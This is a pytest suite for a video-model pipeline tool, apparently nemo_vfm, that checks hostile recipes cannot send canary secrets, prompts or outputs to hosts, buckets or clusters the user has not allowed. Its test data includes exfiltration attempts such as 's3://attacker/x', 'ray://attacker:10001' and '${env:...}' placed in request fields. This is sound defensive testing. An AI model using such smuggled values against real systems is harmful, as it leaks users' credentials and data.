"""Tests that hostile recipes cannot send keys, texts and files to hosts and buckets of their own."""

import json
import os
from dataclasses import replace
from unittest.mock import Mock

import pytest

from nemo_vfm.cli.main import main
from nemo_vfm.config import check, compose, trust_list
from nemo_vfm.config.tree import Map, Seq, join
from nemo_vfm.core.errors import UserError
from nemo_vfm.core.network.endpoint import find_leak
from nemo_vfm.core.network.permission import Permissions
from nemo_vfm.core.network.ssrf_guard import service_url
from nemo_vfm.core.optional import available
from nemo_vfm.train.loggers import WeightsAndBiases
from tests.support.chat_server import chat_server
from tests.support.recipe_folder import ROOT

SECRET = "canary-5531-value"
ASKS = "tests.support.asks"
ASK = f"""_target_: {ASKS}.Ask
run_dir: out
chat: {{_target_: nemo_vfm.core.network.chat.Chat, model: m, endpoint: {{ENDPOINT}}}}
"""
HOLDS = f"_target_: {ASKS}.Holds\nrun_dir: out\n"
CAPTIONER = """captioner:
  _target_: nemo_vfm.curate.caption.endpoint_captioner.EndpointCaptioner
  prompt: "PROMPT"
  chat: {_target_: nemo_vfm.core.network.chat.Chat, model: "MODEL", endpoint: {url: "URL"}}
"""


@pytest.fixture
def attack(kitchen, monkeypatch, tmp_path_factory, capfd):
    """Runs a verb on a recipe as a user who has keys and no endpoints file; says the status and what was said."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path_factory.mktemp("settings")))
    monkeypatch.delenv("NEMO_VFM_ENDPOINTS", raising=False)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.setenv("PLAIN", SECRET)

    def tried(text, *words, verb="run"):
        kitchen.write("r.yaml", text)
        capfd.readouterr()
        status = main([verb, "r.yaml", "--trust", ASKS, *words])
        return status, "".join(capfd.readouterr())

    return tried


@pytest.fixture
def server():
    with chat_server() as state:
        yield state


def asking(server, more="", endpoint="url: URL"):
    return ASK.replace("ENDPOINT", endpoint.replace("URL", json.dumps(server.url))) + more


def origin(server):
    return service_url(server.url).origin


# Endpoints and keys


@pytest.mark.parametrize("verb", ["check", "run"])
@pytest.mark.parametrize(
    ("endpoint", "words"),
    [
        ("url: URL", "nothing is sent to http://127.0.0.1:"),
        ("url: URL, allow_private: true, api_key_env: AWS_SECRET_ACCESS_KEY", "only you decide"),
        ("url: URL, permissions: {allowed: [{place: 'http://127.0.0.1:1'}]}", "takes no argument permissions"),
        (
            "url: URL, permissions: {_target_: nemo_vfm.core.network.permission.Permissions}",
            "takes no argument permissions",
        ),
        ("name: mine", "has no endpoint of this name"),
        ("url: URL, name: mine", "give either `name`"),
        ("{}", "give either `name`"),
    ],
)
def test_a_recipe_cannot_allow_a_host_by_itself(attack, server, verb, endpoint, words):
    status, said = attack(asking(server, endpoint=endpoint.removeprefix("{}")), verb=verb)
    assert status == 2 and words in said and SECRET not in said and not server.paths


def test_the_host_that_the_user_allows_gets_the_question_and_the_key_that_the_user_names(attack, server):
    assert attack(asking(server), "--allow-host", origin(server))[0] == 0
    assert "Authorization" not in server.headers[0]
    status, said = attack(asking(server), "--allow-host", f"{origin(server)}=PLAIN", "--allow", "seed", "run_dir=b")
    assert status == 0 and server.headers[1]["Authorization"] == f"Bearer {SECRET}"
    assert f"{origin(server)} gets what it is asked, with PLAIN of your environment" in " ".join(said.split())
    assert SECRET not in said


def test_the_key_of_one_port_or_scheme_is_not_sent_to_another(attack, server):
    port = service_url(server.url).port
    for word in (f"http://127.0.0.1:{port + 1}=PLAIN", f"https://127.0.0.1:{port}=PLAIN", f"localhost:{port}=PLAIN"):
        status, said = attack(asking(server), "--allow-host", word)
        assert status == 2 and "nothing is sent to" in said and not server.paths


@pytest.mark.parametrize("host", ["2130706433", "0x7f000001", "127.1", "0177.0.0.1"])
def test_another_spelling_of_a_host_is_the_same_host_or_refused(attack, server, host):
    port = service_url(server.url).port
    endpoint = f"url: 'http://{host}:{port}/v1'"
    assert attack(asking(server, endpoint=endpoint))[0] == 2 and not server.paths
    assert attack(asking(server, endpoint=endpoint), "--allow-host", f"127.0.0.1:{port}")[0] == 0


@pytest.mark.parametrize(
    ("one", "other"),
    [("https://A.example.com/v1", "https://a.example.com:443"), ("https://a.example.com./v1", "https://a.example.com"),
     ("http://[0:0::1]:80/", "http://[::1]"), ("https://a.example.com:0443/x", "https://a.example.com")],
)  # fmt: skip
def test_one_host_has_one_spelling(one, other):
    assert service_url(one).origin == service_url(other).origin


@pytest.mark.parametrize(
    "host", ["ex%61mple.com", "a..b", ".a", "a.com..", "a_b!c", "xn--é.com", "a.com:99999", "[::1%25lo]"]
)
def test_what_is_no_plain_host_is_refused(host):
    with pytest.raises(ValueError, match=r"host|address|[Pp]ort|IPv6|brackets"):
        service_url(f"https://{host}/v1")


@pytest.mark.parametrize(
    "word", ["a.com=sk-canary-5531-x", "a.com=canary_5531_value", "a.com=", "a.com/v1=KEY", "=KEY", "s3://bucket=KEY",
             "s3://bucket/key", "file:///etc", "http://me:" + "canary-5531@a.com", "a.com KEY", "*", "https://"],
)  # fmt: skip
def test_an_option_that_names_no_host_and_variable_is_refused_and_a_key_in_it_is_not_repeated(attack, server, word):
    status, said = attack(asking(server), "--allow-host", word)
    assert status == 2 and "--allow-host" in said and "canary" not in said.replace("value of", "")


def test_two_options_that_contradict_each_other_are_refused(attack, server):
    words = [
        word for name in ("PLAIN", "AWS_SECRET_ACCESS_KEY") for word in ("--allow-host", f"{origin(server)}={name}")
    ]
    status, said = attack(asking(server), *words)
    assert status == 2 and "is given twice" in said


# The user's own file


@pytest.fixture
def own_file(tmp_path_factory, monkeypatch, attack):
    folder = tmp_path_factory.mktemp("own") / "nemo_vfm"
    folder.mkdir(mode=0o755)
    file = folder / "endpoints.yaml"
    monkeypatch.setenv("XDG_CONFIG_HOME", str(folder.parent))

    def write(text):
        file.write_text(text)
        file.chmod(0o600)
        return file

    return write


def test_a_name_in_the_users_file_gives_address_and_key(attack, server, own_file):
    own_file(f"mine: {{url: '{server.url}', api_key_env: PLAIN, allow_private: true}}\n")
    status, said = attack(asking(server, endpoint="name: mine"))
    assert status == 0 and server.headers[0]["Authorization"] == f"Bearer {SECRET}" and "mine in " in said
    status, said = attack(asking(server, endpoint="name: other"), verb="check")
    assert status == 2 and "it has mine" in said
    status, said = attack(asking(server), verb="check")
    assert status == 2 and "write name: mine" in said, "the url may lead to another path of the same host"


def test_what_is_inside_the_network_is_the_files_to_say(attack, server, own_file):
    own_file(f"mine: {{url: '{server.url}'}}\n")
    status, said = attack(asking(server, endpoint="name: mine"))
    assert status == 2 and "allow_private: true" in said and not server.paths


@pytest.mark.parametrize(
    ("text", "words"),
    [("[1]", "mapping"), ("mine: 3", "takes url"), ("mine: {url: 'https://a', key: x}", "takes url"),
     ("mine: {url: 'https://a', api_key_env: sk-canary-5531}", "name of the variable"),
     ("mine: {url: 'https://a', allow_private: 'yes'}", "true or false"), ("mine: {url: [1]}", "single"),
     ("a: 1\na: 2", "twice"), ("mine: {url: 'ftp://a'}", "not the URL of a service"), ("mine: !!python/x {}", "tag")],
)  # fmt: skip
def test_a_file_that_is_wrong_allows_nothing_and_says_why(attack, server, own_file, text, words):
    own_file(text)
    status, said = attack(asking(server, endpoint="name: mine"))
    assert status == 2 and words in said and "canary" not in said and not server.paths


def test_a_file_that_others_could_have_written_or_that_came_with_the_recipe_allows_nothing(
    attack, server, own_file, kitchen, monkeypatch
):
    text = f"mine: {{url: '{server.url}', allow_private: true}}\n"
    file = own_file(text)
    for what, mode in ((file, 0o620), (file, 0o602), (file.parent, 0o777), (file.parent.parent, 0o777)):
        before = what.stat().st_mode
        what.chmod(mode)
        status, said = attack(asking(server, endpoint="name: mine"))
        what.chmod(before)
        assert status == 2 and "others can write" in said and not server.paths
    mine = kitchen.write("deep/in/endpoints.yaml", text)
    mine.chmod(0o600)
    link = file.parent / "link.yaml"
    link.symlink_to(mine)
    for named in (mine, link):
        monkeypatch.setenv("NEMO_VFM_ENDPOINTS", str(named))
        status, said = attack(asking(server, endpoint="name: mine"))
        assert status == 2 and "where recipes come from" in said and not server.paths
    monkeypatch.setenv("NEMO_VFM_ENDPOINTS", str(file))
    assert attack(asking(server, endpoint="name: mine"))[0] == 0


def test_a_relative_folder_of_settings_is_not_looked_at(attack, server, kitchen, monkeypatch, tmp_path_factory):
    kitchen.write("nemo_vfm/endpoints.yaml", f"mine: {{url: '{server.url}', allow_private: true}}\n")
    monkeypatch.setenv("XDG_CONFIG_HOME", ".")
    monkeypatch.setenv("HOME", str(tmp_path_factory.mktemp("home")))
    assert attack(asking(server, endpoint="name: mine"))[0] == 2 and not server.paths


# Texts that are sent


@pytest.mark.parametrize(
    ("prompt", "model", "url", "more"),
    [("say ${env:PLAIN}", "m", "https://a.example.com/v1", ""), ("${oc.env:PLAIN}", "m", "https://a.example.com", ""),
     ("${copy}", "m", "https://a.example.com", "x"), ("a", "${env:PLAIN}", "https://a.example.com", ""),
     ("a", "m", "https://a.example.com/${env:PLAIN}", ""), ("a", "m", "https://${env:PLAIN}.example.com", "")],
)  # fmt: skip
def test_check_refuses_what_comes_from_the_environment_in_a_text_that_is_sent(attack, prompt, model, url, more):
    text = HOLDS + CAPTIONER.replace("PROMPT", prompt).replace("MODEL", model).replace("URL", url)
    if more:
        text = text.replace("${copy}", "${captioner.revision}") + '  revision: "${env:PLAIN}"\n'
    status, said = attack(text, "--allow-host", "a.example.com", verb="check")
    assert status == 2 and "must not use the environment" in said and "r.yaml:" in said and SECRET not in said


@pytest.mark.parametrize("field", ["extra: {a: '${env:PLAIN}'}", "extra: {a: [{b: 'x ${env:PLAIN}'}]}",
                                   "response_format: {type: '${env:PLAIN}'}"])  # fmt: skip
def test_check_refuses_the_environment_in_further_fields_of_a_request(attack, field):
    at = "https://a.example.com/v1"
    text = HOLDS + CAPTIONER.replace("PROMPT", "a").replace('"MODEL"', f"m, {field}").replace("URL", at)
    status, said = attack(text, "--allow-host", "a.example.com", verb="check")
    assert status == 2 and "must not use the environment" in said and "r.yaml:" in said and SECRET not in said


@pytest.mark.parametrize("recipe", sorted(f.stem for f in (ROOT / "recipes/synthetic").glob("*.yaml")))
def test_check_refuses_the_environment_in_all_prose_of_a_recipe_that_asks_models(recipe, monkeypatch):
    def without_prose(node, path):
        if isinstance(node, Map):
            items = {key: without_prose(below, join(path, key)) for key, below in node.items.items()}
            return replace(node, items=items)
        if isinstance(node, Seq):
            return replace(node, items=tuple(without_prose(n, join(path, str(i))) for i, n in enumerate(node.items)))
        is_name = path.endswith(".name")  # of rows, for messages
        if isinstance(node.value, str) and " " in node.value.strip() and not is_name:
            prose.append(path)
            return replace(node, value="${env:PLAIN}")
        return node

    monkeypatch.setenv("PLAIN", SECRET)
    prose = []
    composed = compose(f"synthetic/{recipe}")
    found = check(replace(composed, root=without_prose(composed.root, "")))
    refused = {one.path for one in found if "this text is sent over the network" in one.message}
    assert refused == set(prose) and (prose or recipe in ("shapes", "filter_rows"))


VALUES = [SECRET, 'quo"te \\ back', "zwölf-älter", "/etc/xyz7", "localhost", "a1b2", "12345678", "line one\nline two"]


@pytest.mark.parametrize("value", VALUES)
def test_a_value_of_the_environment_is_held_back_where_nothing_said_that_a_text_is_sent(
    attack, server, monkeypatch, value
):
    monkeypatch.setenv("PLAIN", value)
    status, said = attack(asking(server, "text: 'it is ${env:PLAIN}, or so'\n"), "--allow-host", origin(server))
    assert status == 2 and "value of the variable PLAIN" in said and not server.paths


def test_a_value_in_a_picture_is_held_back(attack, server):
    text = asking(server, "text: 'it is ${env:PLAIN}, or so'\nhidden: true\n")
    status, said = attack(text, "--allow-host", origin(server))
    assert status == 2 and "value of the variable PLAIN" in said and not server.paths


def test_short_values_parts_of_words_and_words_of_the_protocol_hold_nothing_back():
    held = (("A", "en"), ("B", "cat"), ("C", "root"), ("D", "user"))
    question = {"messages": [{"role": "user", "content": [{"type": "text", "text": "when uprooted, a cat hisses"}]}]}
    assert find_leak(question, held) == ""
    assert find_leak({"a": ["the root of it"]}, held) == "C"


def test_the_permissions_travel_with_an_endpoint_to_other_processes(monkeypatch):
    import pickle

    from nemo_vfm.core.network.endpoint import Endpoint

    allowed = Permissions(Permissions.of("https://a.example.com=PLAIN").allowed, withheld=(("PLAIN", SECRET),))
    there = pickle.loads(pickle.dumps(Endpoint(url="https://a.example.com/v1", permissions=allowed)))
    assert there.allowed.variable == "PLAIN"
    with pytest.raises(Exception, match="value of the variable PLAIN"):
        there.ask("x", {"text": SECRET})


def test_ranks_and_the_runs_of_a_sweep_are_told_what_the_user_allows(kitchen):
    import argparse

    from nemo_vfm.cli.verbs import run
    from nemo_vfm.runtime.recipe_run import RunOptions
    from nemo_vfm.runtime.sweep_points import sweep_plan

    kitchen.write("r.yaml", HOLDS)
    parser = argparse.ArgumentParser()
    run.add_arguments(parser)
    given = parser.parse_args(["r.yaml", "--allow-host", "a.com=KEY", "--sweep", "seed=1,2"])
    assert "--allow-host=a.com=KEY" in RunOptions(allow_host=given.allow_host).words()
    sweep = sweep_plan(given)
    assert all("--allow-host=a.com=KEY" in sweep.words(point) for point in sweep.points)


# Buckets


@pytest.mark.parametrize(
    "text",
    ["copy_to: s3://attacker/x", "places: [s3://attacker/x]", "named: {a.b: s3://attacker/x}",
     "copy_to: 's3://${env:TERM}/x'", "copy_to: '${env:MINE}-attacker/x'", "copy_to: 's3:/${env:SHELL}'",
     "copy_to: '${named.a}'\nnamed: {a: s3://attacker/x}"],
)  # fmt: skip
def test_a_bucket_that_only_the_recipe_names_is_refused(attack, monkeypatch, text):
    for name, value in {"TERM": "xterm-256color", "MINE": "s3://mine", "SHELL": "/bin/bash"}.items():
        monkeypatch.setenv(name, value)
    status, said = attack(f"{HOLDS}{text}\n", verb="check")
    assert status == 2 and "until you allow it" in said and "add --allow-host " in said


def test_a_file_that_is_called_command_line_is_no_recipe(attack, kitchen):
    kitchen.write("command line", f"{HOLDS}copy_to: s3://attacker/x\n")
    status, said = attack("_target_: nemo_vfm.workflow.Workflow\nsteps: {a: 'recipe:command line'}\n", verb="check")
    assert status == 2 and "command line is not a recipe" in said


def test_a_bucket_that_the_user_types_exports_or_allows_is_the_users(attack, monkeypatch, own_file):
    monkeypatch.setenv("MINE", "s3://mine/there")
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIAEXAMPLE")
    ways = [("", "copy_to=s3://mine/x"), ("copy_to: '${env:MINE}/x'", "seed=0"),
            ("copy_to: s3://mine/x", "--allow-host=s3://mine")]  # fmt: skip
    for text, word in ways:
        status, said = attack(f"{HOLDS}{text}\n", word, verb="check")
        assert status == 0 and "s3://mine gets what the run makes, by way of AWS, with AWS_ACCESS_KEY_ID and" in said
    own_file("ours: {url: 's3://mine/anywhere'}\n")
    assert attack(f"{HOLDS}copy_to: s3://mine/x\n", verb="check")[0] == 0
    assert attack(f"{HOLDS}copy_to: s3://mine-too/x\n", verb="check")[0] == 2


# Loggers and clusters


@pytest.mark.parametrize("logger", ["WeightsAndBiases, project: V", "WeightsAndBiases, entity: V", "MLflow, name: V",
                                    "WeightsAndBiases, tags: [V]", "MLflow, tags: {a: V}"])  # fmt: skip
def test_a_logger_is_told_nothing_from_the_environment(attack, logger):
    written = logger.replace("V", "'x ${env:PLAIN}'")
    status, said = attack(f"{HOLDS}loggers: {{a: {{_target_: nemo_vfm.train.loggers.{written}}}}}\n", verb="check")
    assert status == 2 and "must not use the environment" in said and SECRET not in said


def test_check_lists_the_servers_of_loggers_their_keys_and_whose_project_it_is(attack, monkeypatch):
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "https://ml.example.com")
    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", SECRET)
    monkeypatch.delenv("WANDB_BASE_URL", raising=False)
    loggers = "nemo_vfm.train.loggers"
    text = (f"{HOLDS}loggers:\n  a: {{_target_: {loggers}.WeightsAndBiases, mode: online, entity: them, project: p}}\n"
            f"  b: {{_target_: {loggers}.MLflow, mode: online}}\n")  # fmt: skip
    _, said = attack(text, verb="check")
    assert "https://api.wandb.ai gets" in said and "as them/p, with WANDB_API_KEY of your environment" in said
    assert "https://ml.example.com gets" in said and "with MLFLOW_TRACKING_TOKEN of your environment" in said
    _, offline = attack(text.replace("online", "offline"), verb="check")
    assert " gets " not in offline


@pytest.mark.parametrize("place", ["wandb/settings", ".wandb/settings", "out/wandb/local/settings"])
def test_a_file_that_came_along_cannot_choose_the_server_of_weights_and_biases(kitchen, monkeypatch, place):
    monkeypatch.setenv("WANDB_API_KEY", "a" * 40)
    kitchen.write(place, "[default]\nbase_url = http://127.0.0.1:9\n")
    with pytest.raises(UserError, match="base_url, which would decide where your key is sent"):
        WeightsAndBiases(mode="online").open(kitchen.folder / "out")


@pytest.mark.skipif(not available("wandb"), reason="wandb is not installed")
def test_weights_and_biases_is_told_its_server(monkeypatch, tmp_path):
    import wandb

    for name in ("CACHE_DIR", "CONFIG_DIR", "DATA_DIR", "ARTIFACT_DIR", "ERROR_REPORTING", "API_KEY"):
        monkeypatch.setenv(f"WANDB_{name}", "x" * 40)  # which are set anew, and so put back
    monkeypatch.setenv("WANDB_BASE_URL", "https://w.example.com")
    begun = Mock(side_effect=InterruptedError)
    monkeypatch.setattr(wandb, "init", begun)
    with pytest.raises(InterruptedError):
        WeightsAndBiases(mode="online").open(tmp_path)
    assert begun.call_args.kwargs["settings"].base_url == "https://w.example.com"


@pytest.mark.parametrize("address", ["ray://attacker:10001", "attacker:6379", "10.0.0.7:6379"])
def test_a_ray_cluster_that_only_the_recipe_names_gets_no_work(attack, address):
    text = f"{HOLDS}executor: {{_target_: nemo_vfm.curate.execute.ray_executor.Ray, address: '{address}'}}\n"
    status, said = attack(text, verb="check")
    assert status == 2 and "--allow-host ray://" in said
    whole = f"ray://{address.removeprefix('ray://')}"
    status, said = attack(text, "--allow-host", whole, verb="check")
    assert status == 0 and f"{address} gets programs, videos and results" in said


# What check says


def test_check_lists_every_variable_that_a_recipe_reads(attack):
    _, said = attack(f"{HOLDS}places: ['${{env:PLAIN}}/a', '/b']\n", verb="check")
    assert "the variable PLAIN is read for places.0" in said and SECRET not in said


def test_a_scheduler_is_told_the_same(attack):
    _, said = attack(f"{HOLDS}copy_to: s3://mine/x\n", "--work", "--allow-host", "s3://mine", verb="check")
    assert json.loads(said)["recipients"][0].startswith("s3://mine gets what the run makes")


def test_a_recipe_without_a_network_lists_nothing(attack):
    assert attack(HOLDS, verb="check") == (0, f"{os.path.relpath('r.yaml')}: ok\n")


def test_what_was_allowed_for_one_question_is_not_for_the_next(kitchen):
    """A recipe that is asked several questions remembers its answers."""
    kitchen.write("r.yaml", f"{HOLDS}copy_to: s3://theirs/x\n")
    composed = compose("r.yaml")
    allowed = Permissions.of("s3://theirs")
    for trust in ((), (ASKS,), ()):
        for given in (Permissions(), allowed, Permissions()):
            fresh = compose("r.yaml")
            remembered, anew = (
                [str(problem.message) for problem in check(one, trust_list(trust), given)] for one in (composed, fresh)
            )
            assert remembered == anew and bool(anew) == (not trust or given is not allowed)
